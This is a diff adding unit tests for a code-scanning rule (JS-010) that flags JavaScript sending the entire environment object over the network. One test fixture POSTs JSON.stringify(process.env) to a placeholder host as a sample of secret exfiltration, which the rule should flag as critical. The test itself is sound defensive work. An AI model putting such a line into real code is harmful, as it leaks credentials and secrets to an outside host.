@@ -99,3 +99,17 @@ describe('JS-010 objects derived from the whole environment', () => {
     }
   });
 });
+
+describe('JS-010 guards are not data', () => {
+  it('`process.env && process.env.BASE_URL` carries one variable, not the environment', async () => {
+    const code = `const base = (typeof process !== 'undefined' && process.env && process.env.API_BASE_URL) || 'https://api.example.invalid';
+      fetch(base + '/emails', { method: 'POST', body: JSON.stringify({ to: 'a' }) });`;
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+  it('`process.env || {}` is still the whole environment', async () => {
+    const code = `fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env || {}) });`;
+    const f = await ruleFindings('JS-010', code);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.severity).toBe('critical');
+  });
+});
